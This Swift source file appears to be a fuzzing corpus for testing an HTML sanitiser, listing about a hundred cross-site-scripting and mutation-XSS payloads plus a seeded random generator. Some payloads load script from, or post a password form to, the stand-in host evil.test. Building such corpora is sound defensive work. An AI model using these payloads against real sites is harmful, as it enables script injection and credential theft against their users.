/// Ways in which markup was made to run scripts elsewhere, written anew after the OWASP filter evasion list, the HTML5
/// security cheat sheet, published mutation-XSS findings, and the advisories of servers like this one.
enum XSSCorpus {
    static let payloads = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\u{0}>alert(1)</script>", "<script/x>alert(1)</script >", "<script><!--<script>alert(1)</script>-->",
        "<img src=x onerror=alert(1)>", "<img src='x' onerror='alert(1)'/>", "<img/src=\"x\"/onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">", "<img src=x:x alt='<img src=x onerror=alert(1)>'>",
        "<image src=x onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg/onload=alert(1)//",
        "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<math href='javascript:alert(1)'>x</math>",
        "<a href='javascript:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='javascript&colon;alert(1)'>x</a>", "<a href='&#x6A;avascript&#58;alert(1)'>x</a>",
        "<a href='\u{1}javascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>", "<a href='https:evil.test'>x</a>", "<a href='//evil.test'>x</a>",
        "<a href='https:///evil.test'>x</a>", "<a href='https://\\evil.test'>x</a>",
        "<a href='https://x.test/\"onmouseover=alert(1)'>x</a>", "<a href=https://x.test onclick=alert(1)>x</a>",
        "<a href=\"https://x.test/&quot; onclick=&quot;alert(1)\">x</a>",
        "<a href='https://x.test/\n' onfocus=alert(1)>x</a>",
        "<a style='background:url(javascript:alert(1))' href=https://x.test>x</a>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<style>@import 'javascript:alert(1)';</style>", "<style><img src=x onerror=alert(1)></style>",
        "<link rel=stylesheet href='javascript:alert(1)'>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href='javascript:alert(1)//'>", "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'></object>",
        "<embed src='javascript:alert(1)'>", "<form action='javascript:alert(1)'><input type=submit></form>",
        "<form action='https://evil.test'><input type=password name=p><button>Log in</button></form>",
        "<isindex action='javascript:alert(1)' type=image>", "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<textarea></textarea><script>alert(1)</script>", "<keygen autofocus onfocus=alert(1)>",
        "<video><source onerror='alert(1)'></video>", "<video poster='javascript:alert(1)'></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1)>",
        "<html onclick=alert(1)>x", "<frameset onload=alert(1)>",
        "<table background='javascript:alert(1)'><td>x</table>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<svg><title><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><foreignObject><p><style><img src=x onerror=alert(1)>",
        "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
        "<p id='</p><img src=x onerror=alert(1)>'>x</p>", "<p title=\"</p><script>alert(1)</script>\">x",
        "<x onclick=alert(1)>x</x>",
        "<b onmouseover=alert(1)>x</b>", "<B ONMOUSEOVER=alert(1)>x</B>", "<b/onmouseover=alert(1)>x</b>",
        "<b\u{C}onclick=alert(1)>x</b>",
        "<span class='mention' class='evil' style='position:fixed'>x</span>", "<span data-x='<script>'>x</span>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
        "<% <script>alert(1)</script> %>",
        "</br onclick=alert(1)>", "</p/onclick=alert(1)>", "<>script>alert(1)", "<<script>alert(1)//<</script>",
        "<a<b href=javascript:alert(1)>x",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&lt;img src=x onerror=alert(1)&gt;",
        "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><script>alert(1)</script>",
        "<listing>&lt;img onerror=alert(1)&gt;</listing>",
        "<ruby><rt><script>alert(1)</script></rt></ruby>",
        "<ol start='1\" onclick=alert(1)'><li value='\"><script>'>x</ol>",
        "<p lang='\"><script>alert(1)</script>'>x</p>", "<p translate='no\" onclick=\"alert(1)'>x</p>",
        "<a href=\"https://x.test\" rel='\"><script>alert(1)</script>'>x</a>",
        "<a href=\"https://x.test\" class='mention\"><script>alert(1)</script>'>x</a>",
        "'';!--\"<XSS>=&{()}", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "` onmouseover=alert(1) `",
        "<a href=\"https://x.test/`onclick=alert(1)`\">x</a>",
        "<script>alert(1)", "<img src=x onerror=alert(1)", "<a href='https://x.test", "<p class=", "<", "</", "<!",
        "<!-", "<a/", "<a =", "<a b='",
    ]

    static let fragments = [
        "<p>", "</p>", "<b>", "</b>", "<a href=\"https://x.test/\">", "</a>", "<ul>", "<li>", "</ul>", "<ruby>", "<rt>",
        "<pre>", "<h1>", "</h1>",
        "<blockquote>", "</blockquote>", "<br>", "<span class=\"invisible\">", "</span>", "text", "&amp;", "&lt;", "é😀",
        "<table>", "</table>", "<svg>",
    ]
}

/// Seeded, so that a failure comes again.
struct SplitMix: RandomNumberGenerator {
    var state: UInt64

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var mixed = state
        mixed = (mixed ^ (mixed >> 30)) &* 0xBF58_476D_1CE4_E5B9
        mixed = (mixed ^ (mixed >> 27)) &* 0x94D0_49BB_1331_11EB
        return mixed ^ (mixed >> 31)
    }
}
